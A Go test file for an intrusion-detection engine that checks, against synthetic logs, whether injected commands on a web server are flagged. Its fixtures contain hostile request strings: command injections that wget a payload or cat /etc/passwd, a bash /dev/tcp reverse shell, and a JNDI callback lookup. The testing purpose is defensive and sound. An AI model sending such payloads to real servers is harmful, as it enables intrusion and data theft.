package engine

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/tocsin-ids/tocsin"
)

// Lines of logs at a time after ten o'clock.
var shownDay = time.Date(2026, 11, 20, 10, 0, 0, 0, time.UTC)

func asked(after time.Duration, from, request string, status int) string {
	return fmt.Sprintf("%s - - [%s] \"%s HTTP/1.1\" %d 512 \"-\" \"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\"\n",
		from, shownDay.Add(after).Format("02/Jan/2006:15:04:05 -0700"), request, status)
}

func ranAs(after time.Duration, n, uid int, args ...string) string {
	at := shownDay.Add(after).Unix()
	s := fmt.Sprintf("node=web1 type=SYSCALL msg=audit(%d.123:%d): arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=812 pid=9%02d auid=4294967295 uid=%d gid=%d euid=%d suid=%d fsuid=%d egid=%d sgid=%d fsgid=%d tty=(none) ses=4294967295 comm=%q exe=\"/usr/bin/%s\" key=\"exec\"\n",
		at, n, n%100, uid, uid, uid, uid, uid, uid, uid, uid, args[0], args[0])
	s += fmt.Sprintf("node=web1 type=EXECVE msg=audit(%d.123:%d): argc=%d", at, n, len(args))
	for i, a := range args {
		if strings.ContainsAny(a, " ;") {
			s += fmt.Sprintf(" a%d=%X", i, a)
		} else {
			s += fmt.Sprintf(" a%d=%q", i, a)
		}
	}
	return s + "\n"
}

func connected(after time.Duration, from, to, port string) string {
	return fmt.Sprintf(`{"_path":"conn","ts":%d.5,"uid":"C%d","id.orig_h":%q,"id.orig_p":41514,"id.resp_h":%q,"id.resp_p":%s,"proto":"tcp","conn_state":"SF","orig_bytes":100,"resp_bytes":300}`+"\n",
		shownDay.Add(after).Unix(), int(after.Seconds())+1e6, from, to, port)
}

func looked(after time.Duration, from, name string) string {
	return fmt.Sprintf(`{"_path":"dns","ts":%d.5,"uid":"D%d","id.orig_h":%q,"id.orig_p":41514,"id.resp_h":"10.0.0.2","id.resp_p":53,"proto":"udp","query":%q,"qtype_name":"A","rcode_name":"NOERROR"}`+"\n",
		shownDay.Add(after).Unix(), int(after.Seconds())+1e6, from, name)
}

func erred(after time.Duration, text string) string {
	return fmt.Sprintf("[%s] %s\n", shownDay.Add(after).Format("Mon Jan 02 15:04:05.000000 2006"), text)
}

// often writes lines again and again.
func often(n int, every time.Duration, line func(i int, after time.Duration) string) string {
	var b strings.Builder
	for i := range n {
		b.WriteString(line(i, time.Duration(i)*every))
	}
	return b.String()
}

const (
	stranger = "203.0.113.9"
	fetching = "GET /status.php?host=127.0.0.1%3Bwget%20http://203.0.113.77/a"
	reading  = "GET /status.php?host=127.0.0.1%3Bcat%20/etc/passwd"
)

// TestShown holds what shows that a request's command worked, each kind with what looks like it and shows nothing.
func TestShown(t *testing.T) {
	m := time.Minute
	visitors := asked(-20*m, "198.51.100.20", "GET /", 200) + asked(-19*m, "198.51.100.20", "GET /about.html", 200)
	for _, c := range []struct {
		name  string
		files map[string]string
		want  string // part of what shows it; "" for nothing, and no campaign
	}{
		{"the downloader's own lines in the error log", map[string]string{
			"web1/access.log": visitors + asked(0, stranger, fetching, 200),
			"web1/error.log":  erred(-20*m, "[mpm_prefork:notice] [pid 811] AH00163: Apache/2.4.58 configured -- resuming normal operations") + "--2026-11-20 10:00:01--  http://203.0.113.77/a\nConnecting to 203.0.113.77:80... connected.\nHTTP request sent, awaiting response... 200 OK\nSaving to: '/var/www/html/a'\n\n2026-11-20 10:00:02 (2.10 MB/s) - '/var/www/html/a' saved [30/30]\n"}, "203.0.113.77"},
		{"a shell's complaint in the error log", map[string]string{
			"web1/access.log": visitors + asked(0, stranger, reading, 200),
			"web1/error.log":  erred(2*time.Second, "[cgi:error] [pid 990] [client 203.0.113.9:40000] AH01215: cat: /etc/shadow: Permission denied")}, "a program then ran below the server"},
		{"a shell's complaint without a stamp, between two that are near", map[string]string{
			"web1/access.log": visitors + asked(0, stranger, reading, 200),
			"web1/error.log":  erred(-2*time.Second, "[mpm_prefork:notice] [pid 811] AH00163: Apache/2.4.58 configured -- resuming normal operations") + "sh: 1: nc: not found\n" + erred(time.Minute, "[core:notice] [pid 811] AH00094: Command line: '/usr/sbin/apache2'")}, "a program then ran below the server"},
		{"a shell's complaint without a stamp, which may be of hours later", map[string]string{
			"web1/access.log": visitors + asked(0, stranger, reading, 200),
			"web1/error.log":  erred(-2*time.Second, "[mpm_prefork:notice] [pid 811] AH00163: Apache/2.4.58 configured -- resuming normal operations") + "sh: 1: nc: not found\n" + erred(5*time.Hour, "[core:notice] [pid 811] AH00094: Command line: '/usr/sbin/apache2'")}, ""},
		{"curl's words by way of FastCGI", map[string]string{
			"web1/access.log": visitors + asked(0, stranger, reading, 200),
			"web1/error.log":  shownDay.Add(time.Second).Format("2006/01/02 15:04:05") + ` [error] 12#12: *7 FastCGI sent in stderr: "curl: (7) Failed to connect to 203.0.113.77 port 80" while reading response header from upstream, client: 203.0.113.9, server: www.example, request: "GET /status.php HTTP/1.1", upstream: "fastcgi://127.0.0.1:9000", host: "www.example"` + "\n"}, "a program then ran below the server"},
		{"a program's complaint where nobody attacks", map[string]string{
			"web1/access.log": visitors + asked(0, stranger, "GET /status.php?host=web2", 200),
			"web1/error.log":  erred(2*time.Second, "[cgi:error] [pid 990] [client 203.0.113.9:40000] AH01215: cat: /srv/a: No such file or directory")}, ""},
		{"an application whose programs complain all day", map[string]string{
			"web1/access.log": visitors + asked(0, stranger, reading, 200),
			"web1/error.log": often(200, 7*m, func(_ int, after time.Duration) string {
				return erred(after-700*m, "[cgi:error] [pid 990] [client 198.51.100.20:40000] AH01215: sh: 1: convert: not found")
			})}, ""},
		{"an application's own words", map[string]string{
			"web1/access.log": visitors + asked(0, stranger, reading, 200),
			"web1/error.log":  erred(2*time.Second, "[php:warn] [pid 990] [client 203.0.113.9:40000] PHP Warning:  Undefined variable $host in /var/www/html/status.php on line 3")}, ""},

		{"a command of the server's account", map[string]string{
			"web1/access.log": visitors + asked(0, stranger, reading, 200),
			"web1/audit.log":  ranAs(time.Second, 501, 33, "sh", "-c", "ping -c 1 127.0.0.1;cat /etc/passwd")}, "a program then ran below the server"},
		{"a command of the server's account, by name", map[string]string{
			"web1/access.log": visitors + asked(0, stranger, reading, 500) + asked(m, stranger, reading, 200),
			"web1/audit.log":  ranAs(m+time.Second, 501, 48, "whoami")}, "a program then ran below the server"},
		{"a shell that the server starts", map[string]string{
			"web1/access.log":  visitors + asked(0, stranger, reading, 200),
			"web1/sysmon.json": `{"EventID":1,"SourceName":"Microsoft-Windows-Sysmon","Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"web1","TimeCreated":"2026-11-20T10:00:02.000Z","Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"cmd.exe /c ver","User":"IIS APPPOOL\\DefaultAppPool","LogonId":"0x51a00","ParentImage":"C:\\Windows\\System32\\inetsrv\\w3wp.exe"}` + "\n"}, "a program then ran below the server"},
		{"the server's account at its own work", map[string]string{
			"web1/access.log": visitors + asked(0, stranger, reading, 200),
			"web1/audit.log":  ranAs(time.Second, 501, 33, "php", "/var/www/html/cron.php")}, ""},
		{"an administrator's command", map[string]string{
			"web1/access.log": visitors + asked(0, stranger, reading, 200),
			"web1/audit.log":  strings.ReplaceAll(ranAs(time.Second, 501, 1000, "whoami"), "auid=4294967295", "auid=1000")}, ""},
		{"a picture that is sent and made small", map[string]string{
			"web1/access.log": visitors + asked(0, stranger, "POST /admin/upload.php", 200) + asked(m, stranger, "GET /uploads/cat.png", 200),
			"web1/audit.log":  ranAs(time.Second, 501, 33, "sh", "-c", "convert a.png b.png")}, ""},
		{"a server that is scanned all day and whose application starts shells", map[string]string{
			"web1/access.log": visitors + often(140, 10*m, func(i int, after time.Duration) string {
				return asked(after, fmt.Sprintf("198.51.100.%d", i+50), reading, 200)
			}),
			"web1/audit.log": often(12, 110*m, func(i int, after time.Duration) string {
				return ranAs(after, 501+i, 33, "sh", "-c", "convert a.png b.png")
			})}, ""},
		{"a command long after", map[string]string{
			"web1/access.log": visitors + asked(0, stranger, reading, 200),
			"web1/audit.log":  ranAs(40*m, 501, 33, "sh", "-c", "convert a.png b.png")}, ""},

		{"a connection to the host that was named", map[string]string{
			"web1/access.log": visitors + asked(0, stranger, fetching, 200),
			"zeek/conn.log":   connected(time.Second, "10.0.0.10", "203.0.113.77", "80")}, "203.0.113.77, which it named"},
		{"a lookup of the name that was named", map[string]string{
			"web1/access.log": visitors + asked(0, stranger, "GET /?q=$%7Bjndi:ldap://x7.callback.example/a%7D", 404),
			"zeek/dns.log":    looked(time.Second, "10.0.0.10", "x7.callback.example")}, "x7.callback.example, which it named"},
		{"a shell back to who asked", map[string]string{
			"web1/access.log": visitors + asked(0, stranger, "GET /status.php?host=;bash%20-i%20%3E%26%20/dev/tcp/203.0.113.9/4444%200%3E%261;wget%20http://203.0.113.9/b", 200),
			"zeek/conn.log":   connected(time.Second, "10.0.0.10", stranger, "4444")}, "203.0.113.9, which it named"},
		{"a connection elsewhere", map[string]string{
			"web1/access.log": visitors + asked(0, stranger, fetching, 200),
			"zeek/conn.log":   connected(time.Second, "10.0.0.10", "203.0.113.78", "80")}, ""},
		{"a host to which the server goes all day", map[string]string{
			"web1/access.log": visitors + asked(0, stranger, fetching, 200),
			"zeek/conn.log": often(200, 7*m, func(_ int, after time.Duration) string {
				return connected(after-700*m, "10.0.0.10", "203.0.113.77", "80")
			})}, ""},
		{"who asked goes there himself", map[string]string{
			"web1/access.log": visitors + asked(0, "10.0.0.66", fetching, 200),
			"zeek/conn.log":   connected(time.Second, "10.0.0.66", "203.0.113.77", "80")}, ""},
		{"a crawler, and a page that is put up", map[string]string{
			"web1/access.log": visitors + asked(0, "198.51.100.20", "GET /shop.php", 404) + asked(m, "198.51.100.20", "GET /shop.php", 200) + asked(2*m, "198.51.100.20", "GET /shop.php?id=7", 200),
			"web1/audit.log":  ranAs(30*time.Second, 501, 1000, "cp", "shop.php", "/var/www/html/")}, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			dir := t.TempDir()
			for name, text := range c.files {
				p := filepath.Join(dir, name)
				if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			set := testSet(t)
			var told []*tocsin.Campaign
			for _, workers := range []int{1, 3} {
				found, _, err := Hunt(context.Background(), Input{Paths: []string{dir}, Workers: workers, Key: []byte("a")}, set, nil)
				if err != nil {
					t.Fatal(err)
				}
				if workers > 1 {
					if diff := cmp.Diff(told, found.Campaigns); diff != "" {
						t.Errorf("%d workers: %s", workers, diff)
					}
				}
				told = found.Campaigns
			}
			var shown []string
			for _, c := range told {
				t.Log(c.Level, c.Title, c.Why)
				for _, s := range c.Steps {
					shown = append(shown, s.Shown...)
				}
			}
			switch {
			case c.want == "" && len(told) > 0:
				t.Errorf("%d campaigns, want none; shown: %q", len(told), shown)
			case c.want != "" && (len(told) != 1 || told[0].Level < tocsin.Medium || len(shown) == 0 || !strings.Contains(strings.Join(shown, "\n"), c.want)):
				t.Errorf("%d campaigns, shown: %q; want one, shown by %q", len(told), shown, c.want)
			}
		})
	}
}
